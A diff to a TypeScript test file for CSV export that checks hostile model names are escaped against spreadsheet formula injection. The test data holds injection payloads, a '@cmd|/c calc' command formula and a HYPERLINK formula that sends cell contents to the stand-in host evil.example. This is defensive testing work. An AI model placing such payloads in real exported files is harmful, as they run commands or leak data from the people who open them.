@@ -5,6 +5,7 @@ import { barChartFor } from '../../src/lib/charts/bar';
 import { chartCsv } from '../../src/lib/charts/csv';
 import { csvCell, csvTable } from '../../src/lib/csv';
 import type { Dataset } from '../../src/lib/dataset';
+import { toCsv } from '../../src/lib/export';
 import { validateCase } from '../support/fixtures';
 
 const data = validateCase().dataset;
@@ -47,5 +48,8 @@ describe('downloads with a hostile model name and note', () => {
     const csv = resultsCsv(hostile);
     expect(csv).toContain(",'@cmd|/c calc\r\n");
     expect(csv).not.toMatch(/,@cmd/);
+  });
+  it('the /data/results.csv export goes through the same writer', () => {
+    expect(toCsv([{ model: HOSTILE, score: -3 }], ['model', 'score'])).toBe(`model,score\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""GLM"")",-3\r\n`);
   });
 });
